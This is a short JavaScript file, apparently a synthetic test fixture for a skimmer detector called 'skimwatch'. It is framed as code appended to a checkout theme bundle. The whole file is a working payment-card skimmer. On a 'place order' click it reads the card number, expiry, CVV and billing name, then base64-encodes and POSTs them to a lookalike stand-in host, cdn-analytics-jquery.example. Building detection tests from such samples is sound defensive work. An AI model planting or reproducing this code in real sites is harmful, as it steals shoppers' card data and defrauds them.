// Appended to a checkout theme bundle. Synthetic sample for skimwatch tests.
(function () {
  var sent = false;
  function grab() {
    var d = {
      n: document.querySelector("input[name='payment[cc_number]']").value,
      m: document.querySelector("select[name='payment[cc_exp_month]']").value,
      y: document.querySelector("select[name='payment[cc_exp_year]']").value,
      c: document.getElementById("cc_cid").value,
      h: document.getElementById("billing:firstname").value
    };
    if (sent || d.n.length < 12) return;
    sent = true;
    fetch("https://cdn-analytics-jquery.example/collect", {
      method: "POST",
      mode: "no-cors",
      keepalive: true,
      body: btoa(JSON.stringify(d))
    });
  }
  document.addEventListener("click", function (e) {
    if (e.target && /place order|checkout/i.test(e.target.textContent)) grab();
  }, true);
})();
